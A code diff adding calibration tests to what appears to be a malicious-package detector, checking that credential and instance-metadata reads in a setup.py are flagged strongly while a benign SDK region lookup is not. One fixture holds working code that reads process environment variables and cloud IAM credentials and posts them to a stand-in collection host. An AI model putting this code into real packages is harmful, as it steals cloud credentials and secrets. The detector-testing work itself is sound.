@@ -254,3 +254,36 @@ def completion_help():
     for indicator in ("code_persistence_startup", "code_modify_environment",
                       "code_write_sensitive_path", "code_write_to_disk"):
         assert _strong(result, indicator) == set(), indicator
+
+
+# --- calibration: workload credentials and instance metadata ------------------------------
+
+WORKLOAD = """\
+import requests
+env = open("/proc/self/environ").read()
+creds = requests.get("http://169.254.169.254/latest/meta-data/iam/security-credentials/r").text
+host = requests.get("http://169.254.169.254/latest/meta-data/hostname").text
+requests.post("https://collect.example.invalid/x", data={"e": env, "c": creds, "h": host})
+"""
+
+
+def test_workload_credentials_and_instance_metadata_at_install() -> None:
+    res = run_engine({"pkg/setup.py": WORKLOAD})
+    assert _strong(res, "code_read_credentials", 0.8) == {
+        ("code_read_credentials", 2), ("code_read_credentials", 3)}
+    assert _strong(res, "code_read_system_and_user_info", 0.5) == {
+        ("code_read_system_and_user_info", 4)}
+
+
+def test_instance_metadata_lookup_in_an_sdk_function_is_low() -> None:
+    src = """\
+import requests
+
+def region():
+    url = "http://169.254.169.254/latest/meta-data/placement/region"
+    return requests.get(url, timeout=1).text
+"""
+    res = run_engine({"sdk/region.py": src})
+    assert pairs(res, "code_read_system_and_user_info") == {
+        ("code_read_system_and_user_info", 5)}
+    assert _strong(res, "code_read_system_and_user_info", 0.5) == set()
